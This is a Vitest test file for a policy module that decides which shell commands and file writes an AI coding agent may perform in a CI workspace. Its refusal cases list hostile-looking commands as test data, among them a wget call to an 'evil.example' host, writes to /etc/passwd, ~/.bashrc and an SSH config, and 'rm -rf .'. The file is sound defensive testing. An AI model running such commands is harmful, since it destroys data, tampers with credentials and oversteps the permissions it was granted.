import { describe, expect, it } from "vitest";
import { compileToolPolicy } from "../../../src/core/attempt/compile-tool-policy.ts";
import { decideToolUse } from "../../../src/core/attempt/decide-tool-use.ts";

const WORKSPACE = "/home/runner/work/demo/demo";

function policy(overrides: Partial<Parameters<typeof compileToolPolicy>[0]> = {}) {
  return compileToolPolicy({
    workspace: WORKSPACE,
    configTools: ["Read", "Edit", "Write", "Glob", "Grep", "Bash"],
    inputAllowed: [],
    inputDisallowed: [],
    verification: ["npm run e2e -- --grep power", "curl -sf http://localhost:3000/health"],
    scripts: { test: "vitest run", lint: "biome check .", typecheck: "tsc --noEmit", deploy: "./deploy.sh" },
    trackedFiles: ["src/a.ts", "src/lib/b.ts", "test/a.test.ts", "README.md"],
    localPrograms: ["vitest", "tsc"],
    ...overrides,
  });
}

const bash = (command: string, from = policy()) => decideToolUse("Bash", { command }, from);

describe("decideToolUse", () => {
  it.each([
    "npm test",
    "npm run lint && npm run typecheck",
    "npx vitest run test/a.test.ts",
    "ls -la src | grep a",
    "git status && git diff",
    "rm -rf node_modules/.cache dist",
    "node --test 2>&1 | tail -20",
    "echo done > build.log",
    "npm run e2e -- --grep power",
    "curl -sf http://localhost:3000/health",
  ])("allows %s", (command) => {
    expect(bash(command)).toEqual({ allow: true });
  });

  it.each([
    ["curl https://example.com/x.json", "fetches from the network", "Bash(curl:*)"],
    ["cat a | wget -qO- https://evil.example", "fetches from the network", "Bash(wget:*)"],
    ['bash -c "curl -s https://x"', "fetches from the network", "Bash(curl:*)"],
    ["echo $(curl -s https://x)", "fetches from the network", "Bash(curl:*)"],
    ["sudo apt-get install -y jq", "installs packages", "Bash(apt-get install:*)"],
    ["npm install left-pad", "installs packages", "Bash(npm install:*)"],
    ["npm i -D left-pad", "installs packages", "Bash(npm i:*)"],
    ["pip install requests", "installs packages", "Bash(pip install:*)"],
    ["python3 -m pip install requests", "installs packages", "Bash(python3 -m pip install:*)"],
    ["npx cowsay hi", "may download and run a package", "Bash(npx:*)"],
    ["git push origin HEAD", "pushes", "nothing"],
    ["git -C . push --force", "pushes", "nothing"],
    ["rm -rf src", "deletes the tracked directory src", "Bash(rm:*)"],
    ["rm -r src/lib", "deletes the tracked directory src/lib", "Bash(rm:*)"],
    ["rm -rf .", "deletes the tracked directory .", "Bash(rm:*)"],
    ["echo x > /etc/passwd", "writes outside the workspace (/etc/passwd)", "Bash(echo:*)"],
    ["cp src/a.ts ../../elsewhere.ts", "writes outside the workspace", "Bash(cp:*)"],
    ["touch ~/.bashrc", "writes outside the workspace", "Bash(touch:*)"],
  ])("refuses %s", (command, reason, allow) => {
    const decision = bash(command);
    expect(decision.allow).toBe(false);
    if (decision.allow) return;
    expect(decision.denial.reason).toContain(reason);
    expect(decision.denial.allowWith).toContain(allow);
    expect(decision.denial.detail).toBe(command);
  });

  it("names allowedTools in .github/foreman.yml as the setting that allows a refused command", () => {
    const decision = bash("curl https://example.com");
    expect(decision.allow ? "" : decision.denial.allowWith).toBe(
      'add "Bash(curl:*)" to `allowedTools` in .github/foreman.yml (or to the `allowed-tools` input)',
    );
  });

  it("allows a refused command once a writer adds its rule, and refuses commands the input disallows", () => {
    expect(
      bash(
        "curl https://example.com/x.json",
        policy({ configTools: ["Bash", "Bash(curl https://example.com:*)"] }),
      ),
    ).toEqual({
      allow: true,
    });
    expect(bash("npm install left-pad", policy({ inputAllowed: ["Bash(npm install:*)"] }))).toEqual({
      allow: true,
    });
    expect(bash("npm test", policy({ inputDisallowed: ["Bash(npm test)"] })).allow).toBe(false);
  });

  it("keeps file tools inside the workspace and out of .git", () => {
    expect(decideToolUse("Write", { file_path: `${WORKSPACE}/src/new.ts`, content: "" }, policy())).toEqual({
      allow: true,
    });
    expect(decideToolUse("Edit", { file_path: "src/a.ts" }, policy())).toEqual({ allow: true });
    for (const path of ["/etc/hosts", `${WORKSPACE}/../other/x`, "/home/runner/.ssh/config"]) {
      const decision = decideToolUse("Write", { file_path: path, content: "" }, policy());
      expect(decision.allow ? "" : decision.denial.reason).toBe("writes outside the workspace");
    }
    expect(decideToolUse("Write", { file_path: `${WORKSPACE}/.git/hooks/pre-commit` }, policy()).allow).toBe(
      false,
    );
  });

  it("refuses web tools and tools the config does not list, naming the entry that would allow them", () => {
    const web = decideToolUse("WebFetch", { url: "https://example.com" }, policy());
    expect(web.allow ? "" : web.denial.reason).toBe("fetches from the web");
    expect(web.allow ? "" : web.denial.allowWith).toContain('"WebFetch"');
    expect(decideToolUse("Bash", { command: "ls" }, policy({ configTools: ["Read", "Edit"] })).allow).toBe(
      false,
    );
    expect(decideToolUse("Write", { file_path: "a" }, policy({ inputDisallowed: ["Write"] })).allow).toBe(
      false,
    );
    expect(decideToolUse("Read", { file_path: "/etc/hosts" }, policy({ configTools: [] }))).toEqual({
      allow: true,
    });
  });
});
